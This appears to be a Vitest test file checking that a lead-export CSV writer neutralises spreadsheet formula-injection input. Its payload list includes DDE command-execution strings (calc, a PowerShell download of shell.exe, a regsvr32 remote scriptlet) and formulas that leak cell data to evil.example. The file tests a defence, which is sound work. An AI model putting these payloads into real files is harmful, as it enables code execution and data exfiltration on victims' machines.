/**
 * The CSV export against known CSV-injection payloads (OWASP's CSV Injection page and the
 * usual lists built on it): whatever a visitor types, no cell, and no piece of a cell between
 * separators, reaches a spreadsheet starting with a formula character, and no separator or
 * line break inside a value splits its cell.
 */

import { attributionKeys } from '@contract/attribution';
import { type CsvDialect, csvDialectFor, programCsvDialect } from '@contract/csv-format';
import { leadFieldPath, leadFields } from '@contract/lead-fields';
import { parseCsv } from '@contract/test-support/parse-csv';
import { describe, expect, it } from 'vitest';
import { leadsToCsv } from './csv';
import type { Lead } from './lead';

/** The CSV's columns, by their header. */
const columns = leadFields.filter((field) => field.csv).map(leadFieldPath);

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click here")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll'!''",
  '\t=1+1',
  '\r=1+1',
  '\t\r=1+1',
  "x;=cmd|' /C calc'!A0",
  "x,=cmd|' /C calc'!A0",
  'x; =1+1',
  'x,  +1+1',
  'a;b;@SUM(1)',
  'a,b,-1',
  '";=1+1;"',
  '",=1+1,"',
  'x";=1+1',
  'Linha 1\r\n=1+1',
  'Linha 1\n"=1+1"',
];

function leadWith(value: string): Lead {
  return {
    id: 'id-1',
    createdAt: new Date('2025-01-31T12:00:00Z'),
    firstName: value,
    lastName: value,
    email: value,
    phone: value,
    message: value,
    subject: value,
    language: 'pt',
    page: value,
    company: value,
    cnpj: value,
    legalBasis: value,
    privacyNoticeVersion: value,
    attribution: Object.fromEntries(
      attributionKeys.map((key) => [key, value]),
    ) as Lead['attribution'],
  };
}

async function csvOf(leads: Lead[], dialect: CsvDialect) {
  let text = '';
  for await (const chunk of leadsToCsv(leads, dialect)) text += chunk;
  return text;
}

const saoPaulo = 'America/Sao_Paulo';

const formulaCharacter = /^[=+\-@\t\r]/;

describe.each([
  ['for programs, comma-separated', programCsvDialect(',')],
  ['for programs, semicolon-separated', programCsvDialect(';')],
  ['for a reader of Portuguese', csvDialectFor('pt', saoPaulo)],
  ['for a reader of English', csvDialectFor('en', saoPaulo)],
] as const)('the CSV export %s', (_name, dialect) => {
  const { separator } = dialect;

  it.each(payloads)(
    'keeps %j in its own, quoted cell that cannot start a formula',
    async (payload) => {
      const text = await csvOf([leadWith(payload)], dialect);
      const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
      expect(row).toHaveLength(columns.length);
      for (const cell of row ?? []) {
        expect(cell.quoted).toBe(true);
        // Nothing between separators starts a formula either, should a program split the cell.
        for (const piece of cell.value.split(/[,;]/)) {
          expect(piece.trimStart().replace(/^ +/, '')).not.toMatch(formulaCharacter);
          expect(piece.replace(/^ +/, '')).not.toMatch(formulaCharacter);
        }
      }
      // The visitor's text is all there: only apostrophes were added.
      const firstName = row?.[columns.indexOf('firstName')]?.value ?? '';
      expect(firstName.replace(/'(?=[=+\-@\t\r])/g, '')).toBe(
        payload.replace(/'(?=[=+\-@\t\r])/g, ''),
      );
    },
  );

  it.each([
    'Olá\n=HYPERLINK("https://evil.example","clique")',
    'linha\r\n+1+1',
    'linha\r-2+3',
    'a\n  @SUM(A1)',
    'a\n\t=1',
  ])('defuses a formula after a line break inside a cell (%j)', async (payload) => {
    const text = await csvOf([leadWith(payload)], dialect);
    const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
    for (const cell of row ?? []) {
      for (const line of cell.value.split(/\r\n|\r|\n/)) {
        expect(line.replace(/^ +/, '')).not.toMatch(formulaCharacter);
      }
    }
  });

  it('leaves ordinary text as it is, apart from the quotes', async () => {
    const text = await csvOf([leadWith('Zé da Silva, transportes; 20 caminhões')], dialect);
    const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
    expect(row?.[columns.indexOf('message')]?.value).toBe('Zé da Silva, transportes; 20 caminhões');
  });
});

describe('the CSV export for programs', () => {
  it('starts with a BOM and a quoted header of the lead fields’ JSON keys', async () => {
    for (const separator of [',', ';'] as const) {
      const text = await csvOf([], programCsvDialect(separator));
      expect(text).toBe(`\uFEFF${columns.map((column) => `"${column}"`).join(separator)}\r\n`);
    }
  });

  it('writes the moment a lead arrived in ISO 8601', async () => {
    const [, row] = parseCsv(await csvOf([leadWith('x')], programCsvDialect()), ',');
    expect(row?.[columns.indexOf('createdAt')]?.value).toBe('2025-01-31T12:00:00.000Z');
  });
});

describe.each([
  ['pt', ';', 'Recebido em (America/Sao_Paulo)', '31/01/2025 09:00:00'],
  ['en', ',', 'Received (America/Sao_Paulo)', '2025-01-31 09:00:00'],
] as const)('the CSV export for a reader of %s', (language, separator, received, arrived) => {
  const dialect = csvDialectFor(language, saoPaulo);

  it('is headed by the fields’ labels in the language, separated as its Excel splits', async () => {
    const [header] = parseCsv((await csvOf([], dialect)).replace(/^\uFEFF/, ''), separator);
    expect(header?.map((cell) => cell.value)).toEqual(
      leadFields
        .filter((field) => field.csv)
        .map((field) => (field.name === 'createdAt' ? received : field.label[language])),
    );
  });

  it('writes the moment a lead arrived on the team’s clock, in the language’s format', async () => {
    const [, row] = parseCsv(await csvOf([leadWith('x')], dialect), separator);
    expect(row?.[columns.indexOf('createdAt')]?.value).toBe(arrived);
  });
});

describe('the CSV export of many leads', () => {
  it('comes in a few large chunks, each made of whole rows, that add up to every lead', async () => {
    const leads = Array.from({ length: 2000 }, (_, n) => ({
      ...leadWith(`Transportadora ${n}`),
      id: `id-${n}`,
    }));
    const chunks: string[] = [];
    for await (const chunk of leadsToCsv(leads, programCsvDialect())) chunks.push(chunk);
    // 2,000 rows of about 600 characters: a few dozen chunks, not 2,001 writes.
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.length).toBeLessThan(200);
    for (const chunk of chunks) expect(chunk.endsWith('\r\n')).toBe(true);
    for (const chunk of chunks.slice(0, -1)) expect(chunk.length).toBeGreaterThanOrEqual(16 * 1024);
    const rows = parseCsv(chunks.join('').replace(/^\uFEFF/, ''), ',');
    expect(rows).toHaveLength(1 + leads.length);
    expect(rows.slice(1).map((row) => row[columns.indexOf('id')]?.value)).toEqual(
      leads.map((lead) => lead.id),
    );
  });
});
